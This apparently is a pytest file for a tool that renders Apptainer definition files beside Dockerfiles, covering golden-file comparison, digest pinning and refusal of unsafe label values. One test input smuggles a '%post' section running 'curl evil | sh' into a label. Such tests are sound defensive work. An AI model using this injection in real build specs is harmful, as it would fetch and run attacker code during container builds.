"""`envbuild render --apptainer` (issue 22, part C): an Apptainer definition file next to each
Dockerfile, byte for byte against golden files (UPDATE_GOLDEN=1 rewrites them): `Bootstrap: docker`,
`From:` the spec's repository by digest (Apptainer's build-time variable, no tag), the labels render
wrote, `%runscript` and a `%test` that runs the smoke step as [smoke] says. A label value Apptainer
would read as more than text is refused before anything is written."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from envbuild.cli.app import main
from tests.helpers.paths import GOLDEN
from tests.helpers.specs import TORCH_EXAMPLE as TORCH

CASES = {"torch": TORCH, "cpu": GOLDEN / "ci" / "cpu.toml"}


def render(spec: Path, out: Path, *extra: str) -> int:
    return main(["render", "-f", str(spec), "-o", str(out), "--apptainer", *extra])


@pytest.mark.parametrize("name", CASES)
def test_golden_definition_files(tmp_path: Path, capsys, name: str) -> None:
    assert render(CASES[name], tmp_path / "out") == 0
    written = sorted(tmp_path.glob("out/**/envbuild.def"))
    assert written and all((p.parent / "Dockerfile").is_file() for p in written)  # next to each Dockerfile
    for path in written:
        golden = GOLDEN / "apptainer" / f"{name}-{path.parent.name}.def"
        if os.environ.get("UPDATE_GOLDEN"):
            golden.write_text(path.read_text())
        assert path.read_text() == golden.read_text(), f"{golden.name} (UPDATE_GOLDEN=1)"


def test_the_definition_pins_by_digest_and_tests_with_the_smoke_step(tmp_path: Path, capsys) -> None:
    assert render(TORCH, tmp_path) == 0
    text = (tmp_path / "default" / "envbuild.def").read_text()
    lines = [line for line in text.splitlines() if line and not line.startswith("#")]
    assert lines[:2] == ["Bootstrap: docker", "From: ghcr.io/acme/train-torch@{{ digest }}"]
    assert "    io.envbuild.target default" in lines
    assert lines[lines.index("%runscript") + 1] == '    exec "$@"'
    assert lines[lines.index("%test") + 1] == (
        "    exec python /opt/envbuild/smoke.py --device gpu --steps 20 --precision bf16"
    )
    assert "--build-arg digest=sha256:" in text and "--notest" in text


def test_stdout_prints_the_definition_after_the_dockerfile(tmp_path: Path, capsys) -> None:
    assert render(TORCH, tmp_path / "none", "--stdout") == 0
    out = capsys.readouterr().out
    assert "# ---- default/envbuild.def\n" in out and out.index("FROM ") < out.index("Bootstrap: docker")
    assert not (tmp_path / "none").exists()


@pytest.mark.parametrize(
    ("value", "why"),
    [
        ("{{ digest }}", "'{{'"),  # Apptainer would expand it
        ("x }} y", "'}}'"),
        ("one\n%post\n    curl evil | sh", "newline"),  # a new section: refused by the spec's own checks
    ],
)
def test_a_label_apptainer_would_read_as_more_than_text_is_refused(
    tmp_path: Path, capsys, value: str, why: str
) -> None:
    spec = tmp_path / "envbuild.toml"
    source = 'labels = { "org.opencontainers.image.source" = "https://github.com/acme/train" }'
    assert source in TORCH.read_text()
    spec.write_text(
        TORCH.read_text().replace(source, f'labels = {{ "com.example.note" = {json.dumps(value)} }}')
    )
    assert "com.example.note" in spec.read_text()
    assert render(spec, tmp_path / "out") == 2
    err = capsys.readouterr().err
    assert "com.example.note" in err and why in err
    assert not (tmp_path / "out").exists()  # nothing written
